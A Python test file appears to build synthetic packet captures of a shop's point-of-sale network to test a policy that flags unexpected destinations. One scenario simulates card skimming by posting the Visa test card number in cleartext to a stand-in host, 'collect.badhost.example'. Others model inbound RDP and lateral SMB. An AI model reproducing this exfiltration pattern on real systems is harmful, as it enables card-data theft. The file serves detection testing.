"""Scenarios for unexpected destinations (issue 5), judged with captures/policies/store.yaml.

The store: POS host 10.20.1.15 (pos_hosts 10.20.1.0/24), store resolver 10.20.0.53, acquirer
pay.acquirer.example / *.gateway.example on 443. Each scenario is small and deterministic.
"""

from __future__ import annotations

import struct

from scapy.layers.dns import DNS, DNSQR, DNSRR
from scapy.packet import Packet
from scenario_lib import Clock, TcpConversation, udp

POS = "10.20.1.15"
RESOLVER = "10.20.0.53"
ACQUIRER_IP = "203.0.113.10"
GATEWAY_IP = "203.0.113.20"
TEST_PAN = b"4111111111111111"  # the Visa test number; scans must only ever show it masked


def client_hello(sni: str | None) -> bytes:
    """A minimal TLS 1.2 ClientHello record (fixed random), with an SNI extension when given."""
    ext = b""
    if sni:
        name = sni.encode()
        entry = b"\x00" + struct.pack("!H", len(name)) + name
        sni_data = struct.pack("!H", len(entry)) + entry
        ext += struct.pack("!HH", 0, len(sni_data)) + sni_data
    ext += struct.pack("!HH", 0x000D, 4) + b"\x00\x02\x04\x01"  # signature_algorithms
    body = (b"\x03\x03" + bytes(range(32)) + b"\x00" + struct.pack("!H", 4) + b"\xc0\x2f\xc0\x30" + b"\x01\x00"
            + struct.pack("!H", len(ext)) + ext)
    hs = b"\x01" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x01" + struct.pack("!H", len(hs)) + hs


def server_hello() -> bytes:
    body = b"\x03\x03" + bytes(range(32, 64)) + b"\x00" + b"\xc0\x2f" + b"\x00" + b"\x00\x00"
    hs = b"\x02" + len(body).to_bytes(3, "big") + body
    return b"\x16\x03\x03" + struct.pack("!H", len(hs)) + hs


def app_data(n: int) -> bytes:
    return b"\x17\x03\x03" + struct.pack("!H", n) + bytes((i * 37) & 0xFF for i in range(n))


def tls_session(client: str, server: str, cport: int, clock: Clock, sni: str | None, sport: int = 443) -> list[Packet]:
    c = TcpConversation(client, server, cport, sport, clock)
    c.send(0, client_hello(sni))
    c.send(1, server_hello())
    c.send(0, app_data(120))
    c.send(1, app_data(80))
    c.close()
    return c.packets


def dns_lookup(client: str, resolver: str, cport: int, qid: int, qname: str, answers: list[tuple[str, str, str]],
               clock: Clock) -> list[Packet]:
    """A query and its response; answers are (owner, type, value), e.g. a CNAME chain then an A."""
    q = DNS(id=qid, rd=1, qd=DNSQR(qname=qname, qtype="A"))
    rrs = [DNSRR(rrname=o, type=t, ttl=300, rdata=v) for o, t, v in answers]
    r = DNS(id=qid, qr=1, rd=1, ra=1, qd=DNSQR(qname=qname, qtype="A"), an=rrs or None)
    return [udp(client, resolver, cport, 53, bytes(q), clock), udp(resolver, client, 53, cport, bytes(r), clock)]


def acquirer_dns() -> list[Packet]:
    """Allowed by DNS name: the acquirer's name resolves through a CNAME to a CDN address; TLS without SNI."""
    clock = Clock()
    pkts = dns_lookup(POS, RESOLVER, 40001, 0x1001, "pay.acquirer.example",
                      [("pay.acquirer.example", "CNAME", "pay-acquirer.edgecdn.example"),
                       ("pay-acquirer.edgecdn.example", "A", ACQUIRER_IP)], clock)
    return pkts + tls_session(POS, ACQUIRER_IP, 50001, clock, None)


def acquirer_sni() -> list[Packet]:
    """Allowed by TLS SNI only: no DNS in the capture, the ClientHello names api.gateway.example."""
    clock = Clock()
    return tls_session(POS, GATEWAY_IP, 50002, clock, "api.gateway.example")


def card_unknown_host() -> list[Packet]:
    """A card number posted in cleartext to a host the policy does not know (resolved via the store DNS).

    HTTP/1.0 without a Host header: the name the policy is checked against comes from DNS only.
    """
    clock = Clock()
    pkts = dns_lookup(POS, RESOLVER, 40003, 0x1003, "collect.badhost.example",
                      [("collect.badhost.example", "A", "192.0.2.66")], clock)
    c = TcpConversation(POS, "192.0.2.66", 50003, 80, clock)
    body = b"track=" + TEST_PAN + b"&exp=2812"
    c.send(0, b"POST /c.php HTTP/1.0\r\nContent-Type: "
              b"application/x-www-form-urlencoded\r\nContent-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
    c.send(1, b"HTTP/1.0 200 OK\r\nContent-Length: 2\r\n\r\nok")
    c.close()
    return pkts + c.packets


def outside_resolver() -> list[Packet]:
    """DNS to a public resolver instead of the store's, and DNS over TLS to another."""
    clock = Clock()
    pkts = dns_lookup(POS, "8.8.8.8", 40004, 0x1004, "pay.acquirer.example",
                      [("pay.acquirer.example", "A", ACQUIRER_IP)], clock)
    pkts += tls_session(POS, "1.1.1.1", 50004, clock, None, sport=853)
    return pkts


def inbound_public() -> list[Packet]:
    """A public address connects to the POS host's RDP port and exchanges a few bytes."""
    clock = Clock()
    c = TcpConversation("203.0.113.200", POS, 51000, 3389, clock)
    c.send(0, b"\x03\x00\x00\x13\x0e\xe0\x00\x00\x00\x00\x00\x01\x00\x08\x00\x03\x00\x00\x00")
    c.send(1, b"\x03\x00\x00\x13\x0e\xd0\x00\x00\x12\x34\x00\x02\x00\x08\x00\x01\x00\x00\x00")
    c.close()
    return c.packets


def lateral_smb() -> list[Packet]:
    """The POS host opens SMB to the back-office PC (another shop PC)."""
    clock = Clock()
    c = TcpConversation(POS, "10.20.2.30", 50006, 445, clock)
    negotiate = (b"\x00\x00\x00\x44\xfeSMB\x40\x00" + bytes(10) + b"\x00\x00" + bytes(44)
                 + b"\x24\x00\x02\x00\x01\x00\x00\x00\x00\x00\x00\x00\x02\x02\x10\x02")
    c.send(0, negotiate)
    c.send(1, b"\x00\x00\x00\x40\xfeSMB\x40\x00" + bytes(58))
    c.close()
    return c.packets


def clean_store() -> list[Packet]:
    """A known-good day: acquirer by DNS, gateway by SNI, vendor updates by IP only, NTP, store DNS."""
    clock = Clock()
    pkts = dns_lookup(POS, RESOLVER, 40007, 0x1007, "pay.acquirer.example",
                      [("pay.acquirer.example", "CNAME", "pay-acquirer.edgecdn.example"),
                       ("pay-acquirer.edgecdn.example", "A", ACQUIRER_IP)], clock)
    pkts += tls_session(POS, ACQUIRER_IP, 50007, clock, None)
    pkts += tls_session(POS, GATEWAY_IP, 50008, clock, "api.gateway.example")
    pkts += tls_session(POS, "198.51.100.20", 50009, clock, None, sport=8443)
    ntp = b"\x23" + bytes(47)
    pkts.append(udp(POS, "10.20.0.1", 123, 123, ntp, clock))
    pkts.append(udp("10.20.0.1", POS, 123, 123, b"\x24" + bytes(47), clock))
    pkts += dns_lookup(POS, RESOLVER, 40008, 0x1008, "time.vendor.example", [], clock)
    return pkts


SCENARIOS = {
    "dest_acquirer_dns": acquirer_dns,
    "dest_acquirer_sni": acquirer_sni,
    "dest_card_unknown_host": card_unknown_host,
    "dest_outside_resolver": outside_resolver,
    "dest_inbound_public": inbound_public,
    "dest_lateral_smb": lateral_smb,
    "dest_clean_store": clean_store,
}
